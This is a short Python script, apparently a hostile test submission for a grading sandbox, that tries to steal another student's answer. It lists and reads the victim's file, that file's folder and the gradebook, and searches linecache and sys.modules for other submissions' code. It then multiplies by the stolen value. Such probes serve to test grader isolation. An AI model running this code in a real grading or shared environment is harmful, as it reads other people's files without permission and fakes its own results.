"""Copy the answer from another student's file, by its path, its folder and whatever the fork server kept of it."""

import linecache
import os
import sys

found, secret = [], None
for place in ("@VICTIM@", "@VICTIM@/..", os.path.dirname("@VICTIM@"), "@GRADEBOOK@"):
    for way in (os.listdir, os.scandir, lambda path: open(path).read()):
        try:
            secret = way(place)
            found.append(f"{place} gave {secret!r}")
        except OSError as error:
            found.append(error.strerror)
found.append(f"line caches: {[name for name in linecache.cache if name.endswith('.py') and name[0] != '/']}")
found.append(f"submissions: {[name for name in sys.modules if 'submission' in name]}")
evidence = "; ".join(dict.fromkeys(found))
secret = int(str(secret).split("=")[1]) if secret else None


def scale(x):
    return x * secret
